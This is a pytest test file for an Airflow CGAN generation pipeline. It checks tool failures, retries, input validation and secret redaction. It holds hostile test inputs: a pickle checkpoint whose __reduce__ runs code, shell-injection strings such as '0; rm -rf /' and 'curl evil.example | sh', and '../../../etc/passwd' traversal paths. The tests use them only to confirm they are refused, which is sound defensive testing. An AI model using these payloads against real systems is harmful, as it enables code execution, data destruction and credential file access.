"""Faults, bad input, hostile input and secrets through the real DAG (`airflow dags test`, Airflow
3.3 on SQLite, SeaweedFS as the object store, the stand-in atc/msame for target=ascend).

Each failing run must stop at the task that met the fault, say why in the task log, publish
nothing (no manifest, latest.json untouched), and spend no retries on what a retry cannot fix."""

from __future__ import annotations

import builtins
import json
import secrets

import pytest

from tests.airflow_stack import airflow_env, dags_test, s3_connection
from tests.reliability.conftest import get, latest_run_tasks, listing, task_log_files, xcom_values

SENTINEL = json.dumps({"manifest": "runs/earlier/manifest.json", "logical_date": "2000-01-01T00:00:00+00:00"}).encode()


@pytest.fixture
def dag_env(airflow_home, local_s3, tmp_path):
    """Environment of a DAG run publishing to a fresh bucket that already has a latest.json."""
    bucket = "rel-" + secrets.token_hex(4)
    local_s3["client"].create_bucket(Bucket=bucket)
    local_s3["client"].put_object(Bucket=bucket, Key="latest.json", Body=SENTINEL)

    def make(**extra):
        return airflow_env(
            airflow_home, CGAN_ARTIFACT_ROOT=(tmp_path / "artifacts").as_uri(), CGAN_PUBLISH_BUCKET=bucket,
            CGAN_RETRY_DELAY_S="1", CGAN_CHECKPOINT_ROOTS=f"models,{tmp_path}",
            AIRFLOW_CONN_CGAN_S3=s3_connection(local_s3["endpoint"], local_s3["access_key"], local_s3["secret_key"]),
            **extra)

    make.bucket = bucket
    return make


def assert_nothing_published(client, bucket):
    keys = listing(client, bucket)
    assert not [k for k in keys if k.endswith("manifest.json")], keys
    assert get(client, bucket, "latest.json") == SENTINEL


def ascend_env(dag_env, tmp_path, **extra):
    from tests.standins.fixtures import STANDINS, fake_toolkit_home

    return dag_env(CGAN_ASCEND_TOOLKIT=str(fake_toolkit_home(tmp_path)), CGAN_MSAME=str(STANDINS / "msame"),
                   STANDIN_ATC_CALLS=str(tmp_path / "atc.jsonl"), STANDIN_MSAME_CALLS=str(tmp_path / "msame.jsonl"),
                   CGAN_NPU_DEVICES="0,1", CGAN_NPU_LOCK_DIR=str(tmp_path / "npu-locks"),  # this worker's NPUs
                   **extra)


def tool_calls(path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


ASCEND_CONF = {"num_grids": 2, "seed": 5, "target": "ascend", "devices": [0], "soc_version": "Ascend310P3"}


# --- 3. tool faults -------------------------------------------------------------------------


@pytest.mark.slow
def test_atc_error_fails_at_atc_convert_once_with_its_e_codes(dag_env, local_s3, airflow_home, tmp_path):
    proc = dags_test(ascend_env(dag_env, tmp_path, STANDIN_ATC_MODE="ecode"), ASCEND_CONF)
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0, log[-4000:]
    tasks = latest_run_tasks(airflow_home)
    assert tasks["atc_convert"] == [("failed", 1)]  # deterministic: no retries burnt
    assert tasks["export_onnx"] == [("success", 1)] and tasks["input_bins"] == [("success", 1)]
    later = tasks.get("msame_infer", []) + tasks["postprocess"] + tasks["publish"]
    assert all(state != "success" for state, _ in later)
    conversions = [c for c in tool_calls(tmp_path / "atc.jsonl") if c["argv"] != ["--version"]]
    assert len(conversions) == 1
    assert "ATC run failed" in log and "EZ3003: No supported Ops kernel" in log and "E19010" in log
    assert "AtcError" in log and "AirflowFailException" in log
    assert tool_calls(tmp_path / "msame.jsonl") == []
    assert_nothing_published(local_s3["client"], dag_env.bucket)


@pytest.mark.slow
def test_msame_error_fails_at_msame_after_its_retries(dag_env, local_s3, airflow_home, tmp_path):
    """msame prints [ERROR], writes no output and exits 0 (the other exit-0 failures, missing and
    short outputs, are the unit tests of tests/cgan/ascend/test_msame.py)."""
    quoted = "[ERROR] aclrtMemcpy failed, ret[507899]"  # msame's OutputModelResult line
    proc = dags_test(ascend_env(dag_env, tmp_path, STANDIN_MSAME_MODE="output_error"), ASCEND_CONF)
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0, log[-4000:]
    tasks = latest_run_tasks(airflow_home)
    assert tasks["msame_infer"] == [("failed", 3)]  # a busy NPU may recover: 2 retries (CGAN_RETRY_DELAY_S=1)
    assert len(tool_calls(tmp_path / "msame.jsonl")) == 3
    assert tasks["atc_convert"] == [("success", 1)]
    assert tasks["postprocess"][0][0] == "upstream_failed" and tasks["publish"][0][0] == "upstream_failed"
    assert "MsameError" in log and quoted in log
    assert_nothing_published(local_s3["client"], dag_env.bucket)
    assert not list((tmp_path / "artifacts").rglob("outputs/shard_0000/*.bin"))  # no outputs left behind


# --- 4. bad and hostile input ---------------------------------------------------------------


class _Exploit:
    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):  # unpickling would create the marker file: proof that code ran
        return (builtins.open, (self.marker, "w"))


def _evil(path, marker):
    import torch

    torch.save({"fc.0.weight": _Exploit(marker)}, path)


def _another_model(path, marker):
    import torch

    from cgan.recipe.model import Discriminator  # the upstream CGAN's discriminator: another model

    torch.save(Discriminator(1).state_dict(), path)


def _truncated(path, marker):
    from tests.conftest import build_checkpoint

    build_checkpoint(path, 1)
    path.write_bytes(path.read_bytes()[:5000])


@pytest.mark.slow
@pytest.mark.parametrize("make, message", [
    (_evil, "so it was not executed. Save the generator with torch.save(generator.state_dict(), path)"),
    (_another_model, "is not a CGAN generator checkpoint (missing keys: deconv.0.bias"),
    (_truncated, "truncated or another format"),
], ids=["code-executing-pickle", "another-models-checkpoint", "truncated"])
def test_bad_checkpoint_fails_export_at_once_and_never_runs_code(dag_env, local_s3, airflow_home, tmp_path, make,
                                                                 message):
    marker = tmp_path / "pwned"
    checkpoint = tmp_path / "CGAN_G.pth"
    make(checkpoint, marker)
    proc = dags_test(dag_env(), {"num_grids": 2, "seed": 1, "checkpoint": str(checkpoint)})
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0, log[-4000:]
    assert not marker.exists(), "the checkpoint's pickle ran code"
    tasks = latest_run_tasks(airflow_home)
    assert tasks["export_onnx"] == [("failed", 1)]  # bad input: no retries
    assert tasks["input_bins"][0][0] == "upstream_failed" and tasks["publish"][0][0] == "upstream_failed"
    assert "CheckpointError" in log and message in log
    assert_nothing_published(local_s3["client"], dag_env.bucket)


@pytest.mark.slow
@pytest.mark.parametrize("conf, needle", [
    ({"num_grids": "ten"}, "num_grids"),
    ({"num_grids": 10_000_001}, "num_grids"),  # MAX_GRIDS + 1
    ({"soc_version": "Ascend310P3;reboot"}, "soc_version"),
    ({"devices": ["0; rm -rf /"]}, "devices"),
    ({"checkpoint": "models/g.pth && curl evil.example | sh"}, "checkpoint"),
], ids=["wrong-type", "out-of-range", "soc-metachar", "device-metachar", "checkpoint-metachar"])
def test_bad_trigger_conf_is_refused_before_any_work(dag_env, airflow_home, tmp_path, conf, needle):
    proc = dags_test(dag_env(), conf)
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert needle in log and ("ParamValidationError" in log or "Invalid input for param" in log), log[-3000:]
    assert not (tmp_path / "artifacts").exists()


@pytest.mark.slow
@pytest.mark.parametrize("conf, needle", [
    ({"checkpoint": "../../../etc/passwd"}, "no '..'"),  # the form's pattern lets '..' through; plan does not
    ({"checkpoint": "s3://cgan/models/../../secrets/key.pth"}, "no '..'"),
], ids=["dotdot-path", "dotdot-s3-key"])
def test_traversal_passing_the_form_is_refused_by_plan(dag_env, airflow_home, tmp_path, conf, needle):
    proc = dags_test(dag_env(), conf)
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0
    tasks = latest_run_tasks(airflow_home)
    assert tasks["plan"] == [("failed", 1)] and tasks["export_onnx"][0][0] == "upstream_failed"
    assert "ParamError" in log and needle in log
    assert not (tmp_path / "artifacts").exists()


@pytest.mark.slow
def test_a_logical_date_in_the_future_is_refused_by_plan(dag_env, airflow_home, local_s3, tmp_path):
    """`airflow dags test` (and a deployment with allow_trigger_in_future) runs a run dated 2099
    at once; before, it published and froze latest.json (every later night compared older)."""
    import subprocess

    from tests.airflow_stack import AIRFLOW

    env = dag_env()
    proc = subprocess.run([AIRFLOW, "dags", "test", "cgan_generation", "2099-01-01T00:00:00+00:00", "-c",
                           json.dumps({"num_grids": 1})], env=env, capture_output=True, text=True, timeout=900)
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0
    tasks = latest_run_tasks(airflow_home)
    assert tasks["plan"] == [("failed", 1)], tasks
    assert "logical date 2099-01-01T00:00:00+00:00 is in the future" in log, log[-3000:]
    assert get(local_s3["client"], dag_env.bucket, "latest.json") == SENTINEL
    assert not (tmp_path / "artifacts").exists()


@pytest.mark.slow
@pytest.mark.parametrize("variable, value, needle", [
    ("CGAN_PUBLISH_BUCKET", "Bad_Bucket", "not a valid S3 bucket name"),
    ("CGAN_PUBLISH_BUCKET", "../cgan", "not a valid S3 bucket name"),
    ("CGAN_ARTIFACT_ROOT", "s3://Bad_Bucket/artifacts", "not a valid S3 bucket name"),
    ("CGAN_ARTIFACT_ROOT", "s3://cgan/runs;rm -rf", "unsafe part"),
    ("CGAN_ARTIFACT_ROOT", "file:///tmp/x/../../etc", "'..' is not allowed"),
], ids=["bucket-case", "bucket-dotdot", "root-bucket", "root-prefix-metachar", "root-dotdot"])
def test_bad_bucket_or_artifact_root_is_refused_before_any_work(dag_env, airflow_home, tmp_path, variable, value,
                                                               needle):
    env = dag_env()
    env[variable] = value
    proc = dags_test(env, {"num_grids": 1})
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert variable in log and needle in log, log[-3000:]
    assert not (tmp_path / "artifacts").exists()
    if variable == "CGAN_ARTIFACT_ROOT":  # read by the run's first task, which fails without retries
        tasks = latest_run_tasks(airflow_home)
        assert tasks["plan"] == [("failed", 1)] and tasks["export_onnx"][0][0] == "upstream_failed"
    else:  # read when the DAG file is parsed: the DAG does not load, no run starts
        assert "Failed to import" in log or "could not be found" in log


# --- 5. secrets and 6. back-to-back runs ----------------------------------------------------


@pytest.mark.slow
def test_back_to_back_runs_both_publish_and_no_secret_is_shown(dag_env, local_s3, airflow_home, tmp_path):
    from tests.reliability.conftest import check_manifest_complete

    env, client, bucket = dag_env(), local_s3["client"], dag_env.bucket
    logs, manifests = [], []
    for seed in (1, 2):  # two runs back to back, on the same artifact root and bucket
        proc = dags_test(env, {"num_grids": 2, "grids_per_shard": 1, "seed": seed})
        logs.append(proc.stdout + proc.stderr)
        assert proc.returncode == 0, logs[-1][-6000:]
        latest = json.loads(get(client, bucket, "latest.json"))
        manifests.append(check_manifest_complete(client, bucket, latest["manifest"]))
    first, second = manifests
    assert first["run_id"] != second["run_id"]
    first_runs = {o["key"].split("/")[1] for o in first["objects"]}
    second_runs = {o["key"].split("/")[1] for o in second["objects"]}
    assert first_runs.isdisjoint(second_runs)
    first_run, second_run = (m["objects"][0]["key"].split("/")[1] for m in manifests)
    assert json.loads(get(client, bucket, "latest.json"))["manifest"].startswith(f"runs/{second_run}/")
    check_manifest_complete(client, bucket, f"runs/{first_run}/manifest.json")
    assert first["params"]["seed"] == 1 and second["params"]["seed"] == 2

    secret = local_s3["secret_key"]
    published = "".join(get(client, bucket, k).decode("latin-1") for k in listing(client, bucket))
    for name, text in [("task logs", "".join(logs)), ("log files", task_log_files(airflow_home)),
                       ("XCom", xcom_values(airflow_home)), ("published objects", published)]:
        assert secret not in text, f"the secret key appears in the {name}"
    assert "Published" in logs[1] and "grids 2/2" in logs[1]


@pytest.mark.slow
def test_wrong_secret_fails_at_once_naming_connection_and_bucket(dag_env, local_s3, airflow_home, tmp_path):
    wrong = "wrong-" + secrets.token_hex(16)
    env = dag_env()
    env["AIRFLOW_CONN_CGAN_S3"] = s3_connection(local_s3["endpoint"], local_s3["access_key"], wrong)
    proc = dags_test(env, {"num_grids": 1, "seed": 3})
    log = proc.stdout + proc.stderr
    assert proc.returncode != 0, log[-4000:]
    tasks = latest_run_tasks(airflow_home)
    # the inference task stages its grids in the publish bucket: it checks the bucket before any
    # inference and fails there, without retries
    assert tasks["onnxruntime_infer"] == [("failed", 1)] and tasks["publish"][0][0] == "upstream_failed"
    assert "StoreError" in log and "connection 'cgan_s3'" in log and f"bucket '{dag_env.bucket}'" in log
    assert "credentials" in log
    for secret in (wrong, local_s3["secret_key"]):
        assert secret not in log
        assert secret not in task_log_files(airflow_home) and secret not in xcom_values(airflow_home)
    assert_nothing_published(local_s3["client"], dag_env.bucket)
